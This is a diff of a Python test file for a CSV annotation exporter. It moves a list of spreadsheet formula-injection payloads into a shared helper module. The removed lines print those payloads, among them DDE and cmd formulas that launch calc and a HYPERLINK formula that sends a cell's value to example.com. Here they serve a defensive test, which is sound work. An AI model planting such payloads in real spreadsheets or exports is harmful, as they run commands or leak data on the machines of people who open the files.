@@ -1,6 +1,5 @@
 from __future__ import annotations
 
-import csv
 import io
 
 import pytest
@@ -16,49 +15,10 @@ from annotator.formats.block_rows import BLOCK_COLUMNS, block_rows
 from annotator.formats.cells import inert, plain
 from annotator.formats.csv_tables import rows_of
 from annotator.formats.span_rows import SPAN_COLUMNS, span_rows
+from tests.formats.formulas import PAYLOADS, cells_seen, is_formula
 from tests.formats.goldens import held, written
 from tests.formats.labelled_pages import SCRIPTS, document, labelled
 from tests.formats.sample_pages import SAMPLE
-
-# As lists of such attacks have them: every first sign, what hides it, and what splits cells.
-PAYLOADS = (
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u200b=1+1",
-    "\ufeff=1+1",
-    "\uff1d1+1",
-    "\uff0b1+1",
-    "\uff0d1+1",
-    "\uff20SUM(1+1)",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://example.com?x="&A1,"more")',
-    '=DDE("cmd";"/C calc";"x")',
-    "%0A=1+1",
-    "|calc",
-    "harmless;=1+1",
-    "harmless\";\"=cmd|' /C calc'!A0",
-    "harmless\n=1+1\n-2",
-    "'=1+1",
-)
-
-FORMULA_SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
-
-
-def cells_seen(content: bytes, delimiter: str) -> list[str]:
-    """All cells as a spreadsheet sees them that splits at this sign."""
-    text = content.decode("utf-8-sig")
-    return [
-        cell
-        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
-        for cell in row
-    ]
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -77,8 +37,7 @@ def test_no_spreadsheet_finds_a_formula_whatever_separates_its_cells(name, paylo
     page = labelled(document=made, annotations=set_, annotator=payload, ranges=())
     content = written(name, [page])
     for cell in cells_seen(content, delimiter):
-        # What is skipped before a formula: white space, quotes that a wrong split leaves, controls.
-        assert not cell.strip(' \t\r\n"\u00a0\u200b\ufeff').startswith(tuple(FORMULA_SIGNS)), cell
+        assert not is_formula(cell), cell
     (row, *_) = rows_of(io.BytesIO(content))
     assert row["annotator"] == payload
     assert row["text"] == (payload if name == "blocks-csv" else made.quote(whole))
